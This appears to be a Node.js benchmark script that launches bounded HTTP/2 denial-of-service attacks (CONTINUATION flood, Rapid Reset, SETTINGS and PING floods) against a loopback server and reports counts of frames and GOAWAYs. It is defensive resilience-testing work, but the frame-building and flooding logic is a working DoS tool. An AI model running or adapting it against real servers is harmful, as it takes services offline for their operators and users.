// One attack against a server on loopback, bounded in time and in connections: prints JSON with what it did.
//   node bench/attacks/attacker.mjs ATTACK --port N [--seconds 5] [--parallel 4] [--max-connections 5000]
// ATTACK: continuation (a header block that never ends, each on a fresh connection), rapid-reset (HEADERS then
// RST_STREAM(CANCEL), stream after stream, reconnecting when the server gives up), settings, ping (floods of those
// frames, reconnecting likewise). Each connection sends at most --per-connection frames (default 100,000).
import { connect } from "node:net";
import { parseArgs } from "node:util";
import { CONTINUATION, END_HEADERS, frame, GoawayWatcher, HANDSHAKE, HEADERS, PING, REQUEST_BLOCK, RST_STREAM, SETTINGS, u32 } from "./h2.mjs";

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: { port: { type: "string" }, host: { type: "string", default: "127.0.0.1" }, seconds: { type: "string", default: "5" }, parallel: { type: "string", default: "4" }, "max-connections": { type: "string", default: "5000" }, "per-connection": { type: "string", default: "100000" }, "connections-per-second": { type: "string" } },
});
const attack = positionals[0];
if (!["continuation", "rapid-reset", "settings", "ping"].includes(attack) || !values.port) {
  console.error("usage: attacker.mjs continuation|rapid-reset|settings|ping --port N [--seconds S] [--parallel P]");
  process.exit(2);
}
if (values.host !== "127.0.0.1" && values.host !== "::1" && values.host !== "localhost") {
  console.error("loopback only");
  process.exit(2);
}
const port = Number(values.port);
const deadline = performance.now() + Number(values.seconds) * 1000;
const maxConnections = Number(values["max-connections"]);
const perConnection = Number(values["per-connection"]);
const BATCH = 100; // frames (stream pairs for rapid reset) per write

const CONT = frame(CONTINUATION, 0, 1, Buffer.alloc(16_000, 0x40)); // literal bytes that never complete a header
const PING_FRAME = frame(PING, 0, 0, Buffer.alloc(8));
const SETTINGS_FRAME = frame(SETTINGS, 0, 0);
const RST_CANCEL = u32(8);

const totals = { attack, connections: 0, framesSent: 0, bytesSent: 0, goaways: 0, goawayCodes: {}, streamsAcceptedByServer: 0, withoutGoaway: 0, resetsSent: 0, resetsSentWithoutGoaway: 0, closedByServer: 0, connectErrors: 0 };

/** The frames of batch `n` on one connection (stream ids for rapid reset follow on). */
function batch(n) {
  switch (attack) {
    case "continuation": {
      const parts = n === 0 ? [frame(HEADERS, 0, 1, REQUEST_BLOCK)] : [];
      for (let i = 0; i < BATCH; i++) parts.push(CONT);
      return Buffer.concat(parts);
    }
    case "rapid-reset": {
      const parts = [];
      for (let i = 0; i < BATCH; i++) {
        const id = 2 * (n * BATCH + i) + 1;
        parts.push(frame(HEADERS, END_HEADERS, id, REQUEST_BLOCK), frame(RST_STREAM, 0, id, RST_CANCEL));
      }
      return Buffer.concat(parts);
    }
    case "settings":
      return Buffer.concat(Array.from({ length: BATCH }, () => SETTINGS_FRAME));
    case "ping":
      return Buffer.concat(Array.from({ length: BATCH }, () => PING_FRAME));
  }
}

function oneConnection() {
  return new Promise((resolve) => {
    const socket = connect(port, values.host);
    const watcher = new GoawayWatcher();
    let closed = false;
    let ended = false; // we are done sending (the cap, or time) and closed our side
    let serverClosed = false; // the server closed (or reset) the connection before that
    let sentBatches = 0;
    let bytes = 0;
    // An attacker does not wait for the server's close: the GOAWAY says it is done, so on to the next connection.
    socket.on("data", (d) => {
      watcher.push(d);
      if (watcher.goaway) finish();
    });
    socket.on("error", () => {});
    const finish = () => {
      if (closed) return;
      closed = true;
      clearTimeout(stop);
      socket.destroy();
      totals.connections++;
      if (serverClosed || watcher.goaway) totals.closedByServer++;
      totals.bytesSent += bytes;
      totals.framesSent += sentBatches * BATCH * (attack === "rapid-reset" ? 2 : 1);
      if (attack === "rapid-reset") totals.resetsSent += sentBatches * BATCH;
      const g = watcher.goaway;
      if (g) {
        totals.goaways++;
        totals.goawayCodes[g.code] = (totals.goawayCodes[g.code] ?? 0) + 1;
        if (attack === "rapid-reset") totals.streamsAcceptedByServer += (g.lastStreamId + 1) / 2;
      } else {
        totals.withoutGoaway++;
        if (attack === "rapid-reset") totals.resetsSentWithoutGoaway += sentBatches * BATCH;
      }
      resolve();
    };
    socket.on("close", () => {
      if (!ended && !closed) serverClosed = true;
      finish();
    });
    // However it stands (waiting for a drain that a server that stopped reading never gives), it ends at the deadline.
    const stop = setTimeout(finish, Math.max(0, deadline - performance.now()) + 1000);
    stop.unref();
    socket.once("connect", () => {
      socket.write(HANDSHAKE);
      bytes += HANDSHAKE.length;
      const pump = () => {
        while (!closed && !watcher.goaway && sentBatches * BATCH < perConnection && performance.now() < deadline) {
          const b = batch(sentBatches++);
          bytes += b.length;
          if (!socket.write(b)) return socket.once("drain", pump);
        }
        // Done sending (server said GOAWAY, the cap, or time): close; a server that closed first ends it sooner.
        ended = true;
        if (!closed) socket.end();
        setTimeout(finish, 2000).unref();
      };
      pump();
    });
  });
}

// --connections-per-second paces the workers (so that the attacker does not take the whole core it shares with the
// normal client when the throughput under attack is measured); without it they go as fast as they can.
const pace = values["connections-per-second"] ? 1000 / Number(values["connections-per-second"]) : 0;
let nextStart = performance.now();
async function worker() {
  while (performance.now() < deadline && totals.connections < maxConnections) {
    if (pace) {
      const wait = nextStart - performance.now();
      nextStart = Math.max(nextStart, performance.now()) + pace;
      if (wait > 0) await new Promise((r) => setTimeout(r, wait));
      if (performance.now() >= deadline) break;
    }
    await oneConnection();
  }
}
const started = performance.now();
const cpuStart = process.cpuUsage();
await Promise.all(Array.from({ length: Number(values.parallel) }, worker));
totals.seconds = (performance.now() - started) / 1000;
const used = process.cpuUsage(cpuStart);
totals.attackerCpu = (used.user + used.system) / 1e6;
console.log(JSON.stringify(totals));
